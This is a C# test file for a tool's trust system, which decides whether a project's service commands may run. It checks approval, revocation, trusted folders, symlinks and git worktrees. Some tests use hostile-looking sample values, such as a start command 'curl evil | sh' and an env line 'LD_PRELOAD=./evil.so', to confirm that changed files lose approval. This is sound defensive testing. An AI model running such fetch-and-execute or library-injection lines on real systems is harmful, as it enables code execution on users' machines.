using PortOrchestrator.Trust;

namespace PortOrchestrator.Tests.Trust;

/// <summary>Who may start what, with real files, git worktrees and a real registry.</summary>
[CancelAfter(60_000)]
internal sealed class TrustTests
{
    private const string Services = """{ "services": [{ "name": "web", "start_command": "npm run dev", "health_check": "exec:curl -f localhost", "stop_command": "npm stop" }] }""";

    private string _folder = "";

    private string Project => Path.Combine(_folder, "src", "shop");

    private string Definition => Path.Combine(Project, ".project-services.json");

    [SetUp]
    public void Create()
    {
        // Without the links that a temporary folder may lie behind.
        _folder = PortOrchestrator.ConfigParsers.PathFacts.Canonical(Directory.CreateTempSubdirectory("portorch-trust-").FullName);
        Directory.CreateDirectory(Project);
        File.WriteAllText(Definition, Services);
    }

    [TearDown]
    public async Task DeleteAsync()
    {
        // A supervisor still renews the registry's backup while it ends.
        for (var attempt = 0; ; attempt++)
        {
            try
            {
                Directory.Delete(_folder, recursive: true);
                return;
            }
            catch (IOException) when (attempt < 100)
            {
                await Task.Delay(50);
            }
        }
    }

    [Test]
    public async Task Evaluate_NeverApproved_TellsWhatWouldRunAndWritesNothing()
    {
        var verdict = await EvaluateAsync();

        Assert.That(verdict.Reason, Is.EqualTo(TrustReason.NeverApproved));
        Assert.That(verdict.IsApproved, Is.False);
        Assert.That(
            verdict.Commands.Select(c => $"{c.Name} {c.Purpose}: {c.Command} in {c.WorkingDirectory}"),
            Is.EqualTo(new[] { $"web Start: npm run dev in {Project}", $"web Check: curl -f localhost in {Project}", $"web Stop: npm stop in {Project}" }));
        Assert.That(verdict.Files.Select(f => f.Path), Is.EqualTo(new[] { ".project-services.json" }));
        Assert.That(verdict.Explanation, Does.Contain(Project).And.Contain("portorch trust"));
        Assert.That(Directory.Exists(Path.Combine(_folder, "state")), Is.False);
    }

    [Test]
    public async Task Approve_ThenTheComposeFileChanges_HoldsNoMore()
    {
        var compose = Path.Combine(Project, "compose.yaml");
        File.WriteAllText(compose, "services: { db: { image: postgres } }");
        File.WriteAllText(Definition, """{ "services": [{ "name": "db", "kind": "compose", "compose_service": "db" }] }""");
        await ApproveAsync();
        var approved = await EvaluateAsync();

        File.WriteAllText(compose, "services: { db: { image: postgres, entrypoint: evil } }");
        var changed = await EvaluateAsync();

        Assert.That((approved.IsApproved, changed.IsApproved), Is.EqualTo((true, false)));
        Assert.That(approved.Commands.Select(c => $"{c.Purpose} {c.Command}"), Does.Contain("Start docker compose up -d db"));
        Assert.That(changed.Explanation, Does.Contain("compose.yaml"));
    }

    [Test]
    public async Task Approve_ThenTheFileChangesAndChangesBack_HoldsForEveryApprovedContent()
    {
        Assert.That((await ApproveAsync()).Reason, Is.EqualTo(TrustReason.Approved));

        File.WriteAllText(Definition, Services.Replace("npm run dev", "curl evil | sh", StringComparison.Ordinal));
        var changed = await EvaluateAsync();
        await ApproveAsync();
        File.WriteAllText(Definition, Services);
        var back = await EvaluateAsync();

        Assert.That(changed.Reason, Is.EqualTo(TrustReason.Changed));
        Assert.That(changed.Blamed, Is.EqualTo(new[] { ".project-services.json" }));
        Assert.That(changed.Commands[0].Command.Text, Is.EqualTo("curl evil | sh"));
        Assert.That(back.Reason, Is.EqualTo(TrustReason.Approved), "another branch was approved, not this one withdrawn");
    }

    [Test]
    public async Task Approve_NewWorktreeOfTheProject_NeedsNoApproval()
    {
        Git("init", "-q");
        Git("add", ".");
        Git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "-m", "x");
        await ApproveAsync();

        Git("worktree", "add", "-q", Path.Combine(_folder, "feature"));
        var worktree = await EvaluateAsync(Path.Combine(_folder, "feature"));
        File.AppendAllText(Path.Combine(_folder, "feature", ".project-services.json"), " ");
        var changed = await EvaluateAsync(Path.Combine(_folder, "feature"));

        Assert.That(worktree.Project.Checkout, Is.EqualTo("feature"));
        Assert.That(worktree.Reason, Is.EqualTo(TrustReason.Approved));
        Assert.That(changed.Reason, Is.EqualTo(TrustReason.Changed));
    }

    [Test]
    public async Task Approve_AnotherProjectWithTheSameFile_IsNotApproved()
    {
        await ApproveAsync();
        var other = Path.Combine(_folder, "other");
        Directory.CreateDirectory(other);
        File.Copy(Definition, Path.Combine(other, ".project-services.json"));

        Assert.That((await EvaluateAsync(other)).Reason, Is.EqualTo(TrustReason.NeverApproved));
    }

    [Test]
    public async Task Evaluate_VariablesFile_CountsWithItsContentButMayBeMissing()
    {
        File.WriteAllText(Definition, """{ "env_file": "own.env", "services": [{ "name": "web", "start_command": "serve" }] }""");
        var variables = Path.Combine(Project, "own.env");
        File.WriteAllText(variables, "A=1\n");
        var verdict = await ApproveAsync();
        File.WriteAllText(variables, "LD_PRELOAD=./evil.so\n");
        var changed = await EvaluateAsync();

        Assert.That(verdict.Files.Select(f => (f.Path, f.IsDefinition)), Is.EqualTo(new[] { (".project-services.json", true), ("own.env", false) }));
        Assert.That(changed.Blamed, Is.EqualTo(new[] { "own.env" }));
    }

    [Test]
    public async Task Evaluate_ProcessComposeFiles_CountWithOverrideBaseAndDotEnvironment()
    {
        File.Delete(Definition);
        Write("base.yaml", "version: '0.5'\nprocesses:\n  db: { command: 'postgres' }\n");
        Write("process-compose.yaml", "version: '0.5'\nextends: base.yaml\nenv_cmds:\n  STAMP: 'date +%s'\nprocesses:\n  web: { command: 'serve ${MODE}' }\n");
        Write("process-compose.override.yaml", "version: '0.5'\nprocesses:\n  web: { disabled: false }\n");
        Write(".env", "MODE=safe\n");
        var verdict = await ApproveAsync();
        Write("base.yaml", "version: '0.5'\nprocesses:\n  db: { command: 'evil' }\n");
        var changed = await EvaluateAsync();
        Write("base.yaml", "version: '0.5'\nprocesses:\n  db: { command: 'postgres' }\n");
        File.Delete(Path.Combine(Project, ".env"));
        var withoutVariables = await EvaluateAsync();
        File.Delete(Path.Combine(Project, "process-compose.override.yaml"));
        var withoutOverride = await EvaluateAsync();

        Assert.That(verdict.Files.Select(f => f.Path), Is.EqualTo(new[] { "base.yaml", "process-compose.yaml", "process-compose.override.yaml", ".env" }));
        Assert.That(verdict.Commands.Select(c => $"{c.Purpose} {c.Command}"), Does.Contain("Variable date +%s").And.Contain("Start serve safe"));
        Assert.That(changed.Blamed, Is.EqualTo(new[] { "base.yaml" }));
        Assert.That(withoutVariables.Reason, Is.EqualTo(TrustReason.Approved), "a new worktree has no .env");
        Assert.That((withoutOverride.Reason, withoutOverride.Blamed.Single()), Is.EqualTo((TrustReason.Changed, "process-compose.override.yaml")));
    }

    [Test]
    public async Task Revoke_Approved_IsAskedForAgain()
    {
        await ApproveAsync();
        await using var project = await OpenAsync();

        var revoked = await project.Trust.RevokeAsync();

        Assert.That(revoked.Single().Root, Is.EqualTo(Project));
        Assert.That((await project.Trust.EvaluateAsync()).Reason, Is.EqualTo(TrustReason.NeverApproved));
        Assert.That(await project.Trust.RevokeAsync(), Is.Empty);
    }

    [TestCase("src", true)]
    [TestCase("src/shop", true)]
    [TestCase("src/sho", false)]
    [TestCase("src/shop2", false)]
    [TestCase("src/../src/../src", true)]
    [TestCase("link", true)]
    public async Task TrustFolder_ByAnyName_HoldsBelowItAndNowhereElse(string folder, bool isTrusted)
    {
        foreach (var name in new[] { "src/sho", "src/shop2" }) Directory.CreateDirectory(Path.Combine(_folder, name));
        Directory.CreateSymbolicLink(Path.Combine(_folder, "link"), Path.Combine(_folder, "src"));
        await using var machine = await MachineOrchestrator.OpenAsync(Options(_folder));

        await machine.Trust.TrustFolderAsync(Path.Combine(_folder, folder));

        Assert.That((await EvaluateAsync()).Reason, Is.EqualTo(isTrusted ? TrustReason.TrustedFolder : TrustReason.NeverApproved));
        Assert.That((await machine.Trust.DistrustFolderAsync(folder))!.Path, Does.StartWith(_folder + "/src"));
        Assert.That((await EvaluateAsync()).Reason, Is.EqualTo(TrustReason.NeverApproved));
    }

    [Test]
    public async Task TrustFolder_FileBehindALinkOutOfIt_IsNotCovered()
    {
        var outside = Path.Combine(_folder, "outside.json");
        File.Move(Definition, outside);
        File.CreateSymbolicLink(Definition, outside);
        await using var machine = await MachineOrchestrator.OpenAsync(Options(_folder));
        await machine.Trust.TrustFolderAsync(Path.Combine(_folder, "src"));

        Assert.That((await EvaluateAsync()).Reason, Is.EqualTo(TrustReason.NeverApproved));
    }

    [Test]
    public async Task TrustFolder_ReplacedByALink_DoesNotMoveWithIt()
    {
        await using var machine = await MachineOrchestrator.OpenAsync(Options(_folder));
        await machine.Trust.TrustFolderAsync(Path.Combine(_folder, "src"));
        Directory.Move(Path.Combine(_folder, "src"), Path.Combine(_folder, "moved"));
        Directory.CreateSymbolicLink(Path.Combine(_folder, "src"), Path.Combine(_folder, "moved"));

        Assert.That((await EvaluateAsync(Path.Combine(_folder, "src", "shop"))).Reason, Is.EqualTo(TrustReason.NeverApproved));
        Assert.That(await machine.Trust.DistrustFolderAsync("src"), Is.Not.Null, "it is taken back by the name that it was trusted by");
    }

    [Test]
    public async Task Evaluate_TrustedRootOfTheSettings_IsApprovedAndOnlyTakenBackThere()
    {
        File.WriteAllText(Path.Combine(_folder, "settings.json"), $$"""{ "trusted_roots": ["{{_folder}}/src/"] }""");
        await using var machine = await MachineOrchestrator.OpenAsync(Options(_folder));

        Assert.That((await EvaluateAsync()).Folder, Is.EqualTo(Path.Combine(_folder, "src")));
        Assert.That((await machine.Trust.ListFoldersAsync()).Single().TrustedAt, Is.Null);
        Assert.That(
            async () => await machine.Trust.DistrustFolderAsync("src"),
            Throws.TypeOf<PortOrchestratorException>().With.Message.Contains("settings.json"));
    }

    [Test]
    public async Task Evaluate_FilesBesideTheSettings_AreTheUsersOwn()
    {
        var configuration = Path.Combine(_folder, "config");
        Directory.CreateDirectory(configuration);
        File.Move(Definition, Path.Combine(configuration, "shop.json"));
        File.WriteAllText(Path.Combine(configuration, "settings.json"), "{}");
        var options = Options(Project) with { SettingsFile = Path.Combine(configuration, "settings.json"), Files = [Path.Combine(configuration, "shop.json")] };

        await using var project = await ProjectOrchestrator.OpenAsync(options);

        Assert.That((await project.Trust.EvaluateAsync()).Reason, Is.EqualTo(TrustReason.OwnFile));
    }

    [TestCase("dotfiles/shop.json", TrustReason.OwnFile)]
    [TestCase("shop.json", TrustReason.OwnFile)]
    [TestCase("src/shop/tools/shop.json", TrustReason.NeverApproved)]
    [TestCase("link.json", TrustReason.NeverApproved)]
    public async Task Evaluate_FileThatTheSettingsDeclare_IsTheUsersOwnUnlessItLiesInTheProject(string file, TrustReason reason)
    {
        Directory.CreateDirectory(Path.Combine(_folder, "dotfiles"));
        Directory.CreateDirectory(Path.Combine(Project, "tools"));
        File.Move(Definition, Path.Combine(_folder, file));
        if (file == "link.json")
        {
            File.Move(Path.Combine(_folder, file), Path.Combine(Project, "tools", "shop.json"));
            File.CreateSymbolicLink(Path.Combine(_folder, file), Path.Combine(Project, "tools", "shop.json"));
        }

        Declare(file);

        Assert.That((await EvaluateAsync()).Reason, Is.EqualTo(reason));
        Assert.That((await ApproveAsync()).IsApproved);
    }

    [Test]
    public async Task Evaluate_DeclaredFileThatTakesVariablesFromTheProject_NeedsAnApprovalOfThose()
    {
        File.Delete(Definition);
        Directory.CreateDirectory(Path.Combine(_folder, "dotfiles"));
        var declared = Path.Combine(_folder, "dotfiles", "shop.json");
        File.WriteAllText(declared, """{ "env_file": "own.env", "services": [{ "name": "web", "start_command": "serve" }] }""");
        Declare("dotfiles/shop.json");
        Write("own.env", "LD_PRELOAD=./evil.so\n");
        var before = await EvaluateAsync();
        var approved = await ApproveAsync();

        Assert.That((before.Reason, approved.Reason), Is.EqualTo((TrustReason.NeverApproved, TrustReason.Approved)));
        Assert.That(approved.Files.Select(f => f.Path), Is.EqualTo(new[] { declared, "own.env" }));
    }

    [Test]
    public async Task Evaluate_DeclaredFileInAnotherWorktree_IsTheProjectsAndNotTheUsers()
    {
        Directory.CreateDirectory(Path.Combine(Project, "tools"));
        File.Move(Definition, Path.Combine(Project, "tools", "shop.json"));
        Git("init", "-q");
        Git("add", ".");
        Git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "-m", "x");
        Git("worktree", "add", "-q", Path.Combine(_folder, "src", "feature"));
        Declare("src/shop/tools/shop.json");

        Assert.That((await EvaluateAsync(Path.Combine(_folder, "src", "feature"))).Reason, Is.EqualTo(TrustReason.NeverApproved));
    }

    [Test]
    [Platform("Linux")]
    public async Task Approve_FileOfAnotherUser_IsRefused()
    {
        if (Environment.UserName != "root") Assert.Ignore("Only root can give files away.");
        Run("chown", "65534", Definition);

        var verdict = await EvaluateAsync();
        await using var project = await OpenAsync();

        Assert.That((verdict.Reason, verdict.Blamed.Single()), Is.EqualTo((TrustReason.ForeignOwner, ".project-services.json")));
        Assert.That(async () => await project.Trust.ApproveAsync(), Throws.TypeOf<PortOrchestratorException>().With.Property("Code").EqualTo(ErrorCode.NotApproved));
    }

    [Test]
    public async Task Approve_InvalidOrMissingConfiguration_IsRefusedWithItsReason()
    {
        File.WriteAllText(Definition, """{ "services": [{ "name": 1 }] }""");
        await using var invalid = await OpenAsync();
        Assert.That((await invalid.Trust.EvaluateAsync()).Reason, Is.EqualTo(TrustReason.Invalid));
        Assert.That(async () => await invalid.Trust.ApproveAsync(), Throws.TypeOf<ConfigurationException>().With.Property("Code").EqualTo(ErrorCode.InvalidConfiguration));
        File.Delete(Definition);
        await using var missing = await OpenAsync();
        Assert.That(async () => await missing.Trust.ApproveAsync(), Throws.TypeOf<ConfigurationException>().With.Property("Code").EqualTo(ErrorCode.ConfigurationNotFound));
    }

    [Test]
    public async Task UpAsync_OnlyIfApproved_IsRefusedBeforeAnyCommandOfTheConfigurationIsRun()
    {
        File.Delete(Definition);
        var trace = Path.Combine(_folder, "ran");
        Write("process-compose.yaml", $"version: '0.5'\nenv_cmds:\n  X: 'touch {trace}'\nprocesses:\n  web: {{ command: 'true' }}\n");
        await using var project = await OpenAsync();

        Assert.That(
            async () => await project.UpAsync(new UpOptions { OnlyIfApproved = true }),
            Throws.TypeOf<PortOrchestratorException>().With.Property("Code").EqualTo(ErrorCode.NotApproved));

        Assert.That(File.Exists(trace), Is.False);
        Assert.That(Directory.Exists(Path.Combine(_folder, "state")), Is.False);
    }

    [Test]
    [Platform("Linux")]
    [NonParallelizable]
    public async Task UpAsync_AskedFor_ApprovesWhatItStartsOnce()
    {
        File.WriteAllText(Definition, """{ "services": [{ "name": "job", "kind": "task", "start_command": "true" }] }""");
        await using var project = await OpenAsync();

        await project.UpAsync();
        await project.UpAsync(new UpOptions { OnlyIfApproved = true });
        await project.DownAsync();

        Assert.That((await project.Trust.EvaluateAsync()).Reason, Is.EqualTo(TrustReason.Approved));
        Assert.That((await project.Trust.ListAsync()).Select(a => a.Origin), Is.EqualTo(new[] { ApprovalOrigin.Start }));
    }

    private void Declare(string file) => File.WriteAllText(
        Path.Combine(_folder, "settings.json"), $$"""{ "projects": [{ "path": "{{_folder}}/src/*", "services_file": "{{file}}" }] }""");

    private OrchestratorOptions Options(string folder) => new()
    {
        WorkingDirectory = folder,
        Paths = new StatePaths(Path.Combine(_folder, "state")),
        SettingsFile = File.Exists(Path.Combine(_folder, "settings.json")) ? Path.Combine(_folder, "settings.json") : null,
    };

    private Task<ProjectOrchestrator> OpenAsync(string? folder = null) => ProjectOrchestrator.OpenAsync(Options(folder ?? Project));

    private async Task<TrustVerdict> EvaluateAsync(string? folder = null)
    {
        await using var project = await OpenAsync(folder);
        return await project.Trust.EvaluateAsync();
    }

    private async Task<TrustVerdict> ApproveAsync()
    {
        await using var project = await OpenAsync();
        return await project.Trust.ApproveAsync();
    }

    private void Write(string name, string text) => File.WriteAllText(Path.Combine(Project, name), text);

    private void Git(params string[] arguments) => Run("git", ["-C", Project, .. arguments]);

    private static void Run(string program, params string[] arguments)
    {
        using var process = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(program, arguments) { RedirectStandardError = true })!;
        var error = process.StandardError.ReadToEnd();
        process.WaitForExit();
        Assert.That(process.ExitCode, Is.Zero, error);
    }
}
